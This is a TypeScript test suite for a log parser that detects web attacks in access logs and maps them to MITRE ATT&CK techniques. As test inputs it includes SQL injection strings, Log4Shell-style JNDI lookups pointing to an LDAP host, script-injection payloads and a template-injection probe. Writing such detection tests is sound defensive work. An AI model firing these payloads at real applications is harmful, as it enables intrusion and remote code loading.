import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import { copyOf, createDocumentBuilder, type LineOrigin } from './documents.ts';

const millis = Date.parse('2026-11-22T12:00:00Z');

function documentOf(line: string, { format = 'apache_combined', source = { prefix: '' } }: Partial<LineOrigin> = {}) {
  const origin: LineOrigin = {
    ...{ fileId: 'f', path: 'p', version: millis, modifiedMillis: millis, ingestedMillis: millis },
    ...{ format, source },
  };
  const site = { signIn: { paths: ['/login'], success: [302], failure: [200] } };
  const bytes = Buffer.from(line);
  const whole = { bytes, start: 0, end: bytes.length, offset: 0, lengthBytes: bytes.length };
  const builder = createDocumentBuilder(origin, { keepOriginal: 'failed', userAgentDetails: true, site });
  return JSON.parse(copyOf(builder.build(whole)).toString()) as Readonly<Record<string, unknown>>;
}

const access = (request: string, referrer = '-', agent = 'curl/8.5.0'): string =>
  `203.0.113.9 - - [22/Nov/2026:10:02:52 +0000] "${request}" 200 5 "${referrer}" "${agent}"`;
const kinds = (line: string, origin?: Partial<LineOrigin>): unknown =>
  documentOf(line, origin)['kafkainsight.attack.kind'];

suite('what a request would do to an application', () => {
  test('is in its document, with the technique of MITRE ATT&CK', () => {
    const document = documentOf(
      access('GET /p?id=7%27%20or%201%3D1--%20- HTTP/1.1', '-', '${jndi:ldap://example.org/a}'),
    );
    assert.deepEqual(document['kafkainsight.attack.kind'], ['sql', 'jndi']);
    assert.deepEqual(document['threat.technique.id'], ['T1190']);
    assert.deepEqual(document['threat.technique.name'], ['Exploit Public-Facing Application']);
    const script = documentOf(access('GET / HTTP/1.1', 'https://example.org/?q=<script>alert(1)</script>'));
    assert.deepEqual(script['threat.technique.id'], ['T1189']);
  });

  test('is found where a log escapes what it prints', () => {
    assert.deepEqual(kinds(access('GET /?q=\\"><script>alert(1)</script> HTTP/1.1')), ['script']);
    assert.deepEqual(kinds(access('GET /?q=\\x22\\x3e\\x3cscript\\x3e HTTP/1.1')), ['script']);
  });

  test('is found in JSON, where URL and query are apart, and in a line within another', () => {
    const line = JSON.stringify({
      ...{ time: '2026-11-22T10:02:52Z', method: 'GET', status: 200 },
      ...{ 'url.path': '/p', 'url.query': 'id=1 union select 1,2' },
    });
    assert.deepEqual(kinds(line, { format: 'json' }), ['sql']);
    const wrapped = `<13>Nov 22 10:02:52 web nginx: ${access('GET /?q={{7*7}} HTTP/1.1')}`;
    assert.deepEqual(kinds(wrapped, { format: 'rfc3164' }), ['template']);
  });

  test('is not said of an ordinary request, nor of a line that is none', () => {
    for (const line of [access("GET /search?q=o'reilly HTTP/1.1"), access('-'), access('GET / HTTP/1.1')])
      assert.equal('threat.technique.id' in documentOf(line), false);
    assert.equal(kinds("2026-11-22 10:02:52 ' or 1=1--", { format: 'text' }), undefined);
  });

  test('stays beside the sign-in that it is part of', () => {
    const document = documentOf(access('POST /login?next=${jndi:ldap://example.org/a} HTTP/1.1'));
    assert.equal(document['event.action'], 'sign-in');
    assert.deepEqual(document['kafkainsight.attack.kind'], ['jndi']);
  });
});
